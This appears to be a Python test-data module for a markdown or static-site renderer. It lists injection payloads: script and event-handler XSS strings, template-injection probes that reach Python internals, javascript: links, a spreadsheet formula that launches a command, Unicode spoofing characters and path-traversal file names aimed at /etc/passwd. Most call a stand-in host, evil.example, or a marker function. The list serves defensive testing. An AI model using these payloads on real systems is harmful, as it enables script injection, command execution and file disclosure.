"""Texts that try to become something else than text: scripts, markup, templates, formulas, paths.

Each one that can run calls `pwned` or asks `evil.example` for something, so that a browser shows whether
it did.
"""

from __future__ import annotations

SCRIPTS = (
    "<script>pwned()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "<!--<script>--><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<img src=//evil.example/p.png>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<video><source onerror=pwned()></video>",
    "<audio src=//evil.example/a.mp3 autoplay></audio>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/b.png)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button autofocus onfocus=pwned()>x",
    "<input autofocus onfocus=pwned()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<template><img src=x onerror=pwned()></template>",
    "<xmp><p title='</xmp><img src=x onerror=pwned()>'>",
    "<a href=javascript:pwned() autofocus onfocus=pwned()>x</a>",
    "<p style='background:url(//evil.example/s.png)'>x</p>",
    "<marquee onstart=pwned()>x</marquee>",
    "<isindex action=javascript:pwned() type=image>",
)
QUOTES = (
    '" onmouseover=pwned() autofocus onfocus=pwned() x="',
    "' autofocus onfocus=pwned() x='",
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    "` onerror=pwned() `",
    '\\"><script>pwned()</script>',
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;img src=x onerror=pwned()&#62;",
    "<<script>script>pwned()<</script>/script>",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>pwned()</script>",
    "<![CDATA[<script>pwned()</script>]]>",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "\u2028pwned()\u2029</script><script>pwned()",
)
TEMPLATES = (
    "{{ 7 * 7 }}{{ config.site_name }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{#-- comment --#}{{ cycler.__init__ }}",
)
MARKDOWN = (
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned() 'title')",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "![x](//evil.example/p.png)",
    "![x](javascript:pwned())",
    "<javascript:pwned()>",
    "[x]: javascript:pwned()\n\n[x]",
    "[x](content:groups/tea.md)",
    "[x](../../../etc/passwd.md)",
    "# Heading {: onclick=pwned() }",
    '--8<-- "/etc/passwd"',
    "```\n</code></pre><script>pwned()</script>\n```",
    "<div markdown=1>\n<script>pwned()</script>\n</div>",
)
SPREADSHEET = ('=HYPERLINK("//evil.example")', "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)", "\t=1+1")
UNSEEN = (
    "tea\u202egnp.exe",
    "tea\u200b\u200d\u2060talk",
    "tea\x00\x07\x1b[31mtalk",
    "\ufeff\u2066tea\u2069\ud7ff",
    "\x02/../\x03content\x03",
    "\ue000\ue001 tea",
)
PAYLOADS = SCRIPTS + QUOTES + TEMPLATES + MARKDOWN + SPREADSHEET + UNSEEN

# Names of files that must never become addresses, nor lead out of the site's folder.
FILE_NAMES = (
    "..%2f..%2fetc.md",
    "<img src=x onerror=pwned()>.md",
    "a b.md",
    "UPPER.md",
    "-dash.md",
    "con\u202etea.md",
    f"{'a' * 90}.md",
    "café.md",
    "javascript:pwned().md",
    "..md",
)
IMAGE_NAMES = (
    "../../../etc/passwd",
    "/etc/passwd",
    "x.svg",
    "x.png/../../y.png",
    "..\\x.png",
    "x.webp\0.svg",
    "//evil.example/p.png",
)
